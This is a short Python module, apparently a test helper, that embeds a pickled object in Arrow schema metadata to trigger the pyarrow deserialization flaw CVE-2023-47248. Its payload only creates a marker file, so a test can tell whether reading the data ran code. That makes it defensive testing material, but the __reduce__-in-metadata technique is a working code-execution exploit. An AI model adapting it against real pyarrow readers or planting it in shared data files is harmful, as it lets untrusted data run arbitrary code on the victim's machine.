"""Arrow data whose schema names code to run when it is read (CVE-2023-47248), and what shows whether it ran."""

from __future__ import annotations

import pickle
from pathlib import Path

import pyarrow as pa


class _Touch:
    """Unpickled, it creates a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (str(self.path), "w")


def running_code(schema: pa.Schema, marker: Path, column: str | None = None) -> pa.Schema:
    """`schema`, whose reader creates the file `marker` where pyarrow is not protected.

    Args:
        schema: of the data.
        marker: the file.
        column: the column with the extension type; None adds one that nobody reads.
    """
    metadata = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": pickle.dumps(_Touch(marker)),
    }
    if column is None:
        return schema.append(pa.field("extra", pa.int64(), metadata=metadata))
    index = schema.get_field_index(column)
    return schema.set(index, schema.field(index).with_metadata(metadata))


def with_schema(table: pa.Table, schema: pa.Schema) -> pa.Table:
    """`table` under `schema`, which may have the further column `extra`."""
    if "extra" in schema.names:
        table = table.append_column("extra", pa.array([0] * len(table), pa.int64()))
    return pa.Table.from_arrays(table.columns, schema=schema)
